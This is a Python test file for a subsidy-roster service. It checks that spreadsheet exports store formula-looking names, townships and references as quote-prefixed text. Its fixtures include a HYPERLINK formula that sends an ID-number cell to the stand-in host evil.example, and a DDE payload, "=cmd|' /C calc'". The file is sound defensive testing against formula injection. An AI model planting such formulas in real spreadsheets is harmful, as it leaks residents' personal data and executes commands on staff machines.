"""Every spreadsheet the services write carries text from data as text, never as a formula (issue 16, files).

A resident enrolled as `=HYPERLINK("http://…/?"&C5,"…")` once became a live formula in the staff's
roster.xlsx, pointing at the ID-number cell. Here formula-looking names, townships, units and references go in
through the real API, and every download that shows them is read back: no sheet holds a formula element, and
each such cell is a string cell marked as text (quotePrefix), so that even editing it in Excel or WPS keeps it
text."""

import io
import re
import zipfile
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell

from tests.collection.helpers import DAY, HEADER
from tests.collection.test_reconciliation import lines, reconcile
from tests.conftest import Harness
from tests.registry.helpers import HEFEI, HEFEI_WINDOW, processed, review, rows_of, upload
from tests.spreadsheets import csv_bytes
from tests.support import resident_id

ROOT_DIR = __import__("pathlib").Path(__file__).resolve().parent.parent

FORMULA = '=HYPERLINK("http://evil.example/?"&C5,"点我")'
PLUS = "+1+1"
AT = "@SUM(1,2)"
MINUS = "-2+3"
TOWNSHIP = "=1+2"
AFTER_THE_WINDOW = "2024-03-01T10:00:00+08:00"  # Hefei lists no townships: what the roster says is kept
_FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s>/]")


def formula_parts(content: bytes) -> list[str]:
    """The worksheets of an .xlsx that hold a formula element."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return [
            name
            for name in book.namelist()
            if name.startswith("xl/worksheets/") and _FORMULA_ELEMENT.search(book.read(name))
        ]


def assert_text(content: bytes, *texts: str) -> None:
    """No formula anywhere; each of `texts` appears, as a text cell marked as text."""
    assert formula_parts(content) == []
    found: dict[str, list[Cell]] = {}
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell, Cell) and cell.value in texts:
                    found.setdefault(str(cell.value), []).append(cell)
    assert sorted(found) == sorted(texts)
    for text, cells in found.items():
        assert all((c.data_type, c.quotePrefix) == ("s", True) for c in cells), (text, cells)


async def download(h: Harness, path: str, **params: Any) -> bytes:
    response = await h.client.get(path, params=params)
    assert response.status_code == 200, response.text
    return response.content


async def test_roster_summary_mobilisation_and_upload_report_write_formula_names_as_text(
    registry: Harness,
) -> None:
    registry.at(AFTER_THE_WINDOW)  # only full subsidies enroll at once; the others are to be mobilised
    rows = [
        [FORMULA, resident_id(), "特困人员", TOWNSHIP],  # fully subsidised: enrolled at once
        [PLUS, resident_id(), "特困人员", TOWNSHIP],
        [AT, resident_id(), "低保对象", "@A1"],  # partly subsidised: on the mobilisation list
    ]
    data = csv_bytes(["姓名", "身份证号码", "人员类别", "乡镇"], rows, "utf-8")
    created = await upload(registry, data, "合肥资助名单.csv", **HEFEI, department="蜀山区民政局")
    assert created.status_code == 201, created.text
    upload_id = created.json()["upload_id"]
    await processed(registry, upload_id)
    assert (await review(registry, upload_id)).status_code == 200
    await processed(registry, upload_id)
    outcomes = {r["values"]["name"]: r["outcome"] for r in await rows_of(registry, upload_id)}
    assert outcomes == {
        FORMULA: "enrolled_fully_subsidised",
        PLUS: "enrolled_fully_subsidised",
        AT: "mobilise",
    }

    report = await download(registry, f"/v1/rosters/{upload_id}/report.xlsx")
    assert_text(report, FORMULA, PLUS, AT, TOWNSHIP, "@A1")
    category = HEFEI | {"category": "extreme_poverty"}
    roster = await download(registry, "/v1/subsidy-assignments/roster.xlsx", **category)
    assert_text(roster, FORMULA, PLUS, TOWNSHIP)
    summary = await download(registry, "/v1/subsidy-assignments/summary.xlsx", **category)
    assert_text(summary, TOWNSHIP)
    mobilisation = await download(registry, "/v1/subsidy-assignments/mobilisation.xlsx", **HEFEI)
    assert_text(mobilisation, AT, "@A1")


async def test_the_progress_report_writes_a_formula_unit_as_text(registry: Harness) -> None:
    registry.at(HEFEI_WINDOW)
    table = csv_bytes(
        ["统筹区", "区划代码", "目标任务数"], [[FORMULA, "340104", "1000"], [MINUS, "340102", "9"]], "utf-8"
    )
    replaced = await registry.client.put(
        "/v1/progress/baseline", files={"file": ("任务数.csv", table)}, data=HEFEI | {"loaded_by": "市医保局"}
    )
    assert replaced.status_code == 200, replaced.text
    report = await download(registry, "/v1/progress/report.xlsx", **HEFEI)
    assert_text(report, FORMULA, MINUS)
    # Figures stay numbers: the target of 1000 people is 0.1 万人.
    sheet = load_workbook(io.BytesIO(report)).worksheets[0]
    assert any(c.value == pytest.approx(0.1) and c.data_type == "n" for row in sheet.iter_rows() for c in row)


async def test_the_door_to_door_list_writes_a_formula_name_as_text(registry: Harness) -> None:
    registry.at(HEFEI_WINDOW)
    rows = [[1, FORMULA, resident_id(birth="19800101"), "南七街道", PLUS, AT]]
    data = csv_bytes(["序号", "姓名", "身份证号码", "乡镇", "村（居）委会", "村民组"], rows, "gb18030")
    created = await upload(
        registry, data, "户籍人口.csv", kind="household_registration", department="市公安局", **HEFEI
    )
    assert created.status_code == 201, created.text
    await processed(registry, created.json()["upload_id"])
    assert (await review(registry, created.json()["upload_id"])).status_code == 200
    await processed(registry, created.json()["upload_id"])
    screened = await registry.client.post("/v1/screenings", json=HEFEI | {"run_by": "市医保征缴科"})
    assert screened.status_code == 200, screened.text
    listing = await download(registry, "/v1/screening-cases/list.xlsx", **HEFEI)
    assert_text(listing, FORMULA, PLUS, AT)


async def test_the_reconciliation_report_writes_a_formula_reference_as_text(collection: Harness) -> None:
    reference = "=cmd|' /C calc'!A0"
    response = await reconcile(
        collection,
        [],
        content=csv_bytes(HEADER, [[reference, f"{DAY} 09:00:00", "1.00", "", ""]], "utf-8"),
    )
    assert response.status_code == 201, response.text
    assert (await lines(collection))[reference]["state"] == "unrecordable"
    report = await download(collection, f"/v1/reconciliations/wechat/{DAY}/report.xlsx")
    assert_text(report, reference)
    sheet = load_workbook(io.BytesIO(report))["汇总"]
    counts = [row[2].value for row in sheet.iter_rows(min_row=3) if row[0].value == "unrecordable"]
    assert counts == [1]  # a count is a number


def test_only_the_text_safe_writers_make_spreadsheets() -> None:
    """Services and shared code write .xlsx only through shared.tabular.Spreadsheet and CSV only through
    tabular.csv_writer, so that no new report can forget the rule."""
    offenders = []
    for path in [*(ROOT_DIR / "services").rglob("*.py"), *(ROOT_DIR / "shared").rglob("*.py")]:
        if path.name == "tabular.py" or "migrations" in path.parts:
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(
            r"from openpyxl(\.workbook(\.workbook)?)? import [^\n]*\bWorkbook\b|openpyxl\.Workbook\(", text
        ):
            offenders.append(f"{path.relative_to(ROOT_DIR)}: openpyxl Workbook")
        if re.search(r"\bcsv\.(writer|DictWriter)\(", text):
            offenders.append(f"{path.relative_to(ROOT_DIR)}: csv writer")
    assert offenders == []
